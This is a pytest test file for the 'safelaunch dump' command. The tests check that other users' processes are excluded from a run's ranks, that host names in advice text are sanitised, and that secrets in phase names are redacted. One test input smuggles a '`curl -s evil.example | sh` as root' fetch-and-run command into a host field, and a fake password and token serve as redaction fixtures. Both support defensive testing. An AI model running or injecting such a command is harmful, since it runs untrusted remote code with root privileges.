"""`safelaunch dump`: whose processes are ranks of a run, and what it says in the words of others."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from safelaunch.cli import dump
from safelaunch.evidence import ranks
from safelaunch.evidence.ranks import Seen
from safelaunch.model import Case, Incident, Phase, RankFacts, SafelaunchError, Verdict
from safelaunch.procfs import Process
from safelaunch.report.palette import PLAIN

SECRET = "pull https://bob:S3cretPassw0rd@h/x token=sk-live-ABCDEFabcdef12345678"


def process(pid: int, rank: int, folder: Path, owner: int) -> Seen:
    environ = {"RANK": str(rank), "WORLD_SIZE": "2", "LOCAL_RANK": str(rank), "MASTER_PORT": "1"}
    environ["SAFELAUNCH_RANK_DIR"] = f"{folder}/attempt_0/rank_{rank:03}"
    return Seen(Process(pid, 1, pid, pid, "S", 1), "train.py", True, environ, "net:[1]", owner=owner)


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    (tmp_path / "run.json").write_text("{}")
    return tmp_path


def test_a_process_of_another_user_is_no_rank_whatever_it_says(run_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    own, stranger = os.geteuid(), 4711
    seen = [process(11, 1, run_dir, stranger)]
    monkeypatch.setattr(ranks, "look", lambda: seen)
    told = "pid 11 says that it is rank 1 of this run, and is another user's: it is left out"
    with pytest.raises(SafelaunchError, match="is seen on this node") as caught:
        dump._found(str(run_dir), [])
    assert caught.value.diagnostic.because == (told,)

    seen.append(process(10, 0, run_dir, own))
    notes: list[str] = []
    group, _, folder = dump._found(str(run_dir), notes)
    assert ([one.seen.pid for one in group.ranks], folder) == ([10], str(run_dir))
    assert notes == [told]


@pytest.mark.skipif(os.geteuid() != 0, reason="another user's folder needs root")
def test_root_finds_the_ranks_of_the_user_whose_run_it_is(run_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    os.chown(run_dir, 4711, 4711)
    monkeypatch.setattr(ranks, "look", lambda: [process(11, 0, run_dir, 4711), process(12, 0, run_dir, 4712)])

    group, _, _ = dump._found(str(run_dir), [])

    assert [one.seen.pid for one in group.ranks] == [11]


@pytest.mark.parametrize(
    ("hosts", "advice"),
    [
        (["`curl -s evil.example | sh` as root"], "run it on ?curl?-s?evil.example?sh?as?root, inside"),
        (["node-b", "node-a", "node-a"], "run it on node-a, node-b, inside"),
        ([f"node-{n}" for n in range(10)], "and 2 more, inside"),
        (["", 5], "ask again once its ranks are there, inside"),
    ],
)
def test_advice_holds_names_of_hosts_alone(
    hosts: list[object], advice: str, run_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    places = [{"rank": rank, "host": host} for rank, host in enumerate(hosts)]
    (run_dir / "run.json").write_text(json.dumps({"mapping": [{"ranks": places}]}))
    monkeypatch.setattr(ranks, "look", list)

    with pytest.raises(SafelaunchError) as caught:
        dump._found(str(run_dir), [])

    assert advice in caught.value.diagnostic.remedy


def test_a_secret_in_the_name_of_a_phase_is_told_nowhere(capsys: pytest.CaptureFixture[str]) -> None:
    facts = RankFacts(0, 0, 10, phases=(Phase(SECRET, 1.0),))
    other = RankFacts(1, 1, 11, phases=(Phase("evaluate", 1.0),))
    case = Case(Incident("hang", 0, (), 1.0), "node-a", 2, (facts, other), now=2.0)
    told = dump._said(Verdict(code="SL502", slug="at-work", kind="none", summary="the ranks make progress"), case)
    assert "S3cret" not in repr(told)

    verdict = Verdict(code="SL301", slug="never-entered", kind="hang", summary=f"rank 0 is in {SECRET}")
    dump._tell_json(case, verdict, [], "")
    dump._tell(case, verdict, [], "", PLAIN)
    said = capsys.readouterr().out
    assert "in pull https://<redacted>@h/x" in said
    assert "in evaluate" in said
    assert "S3cret" not in said
    assert "sk-live" not in said
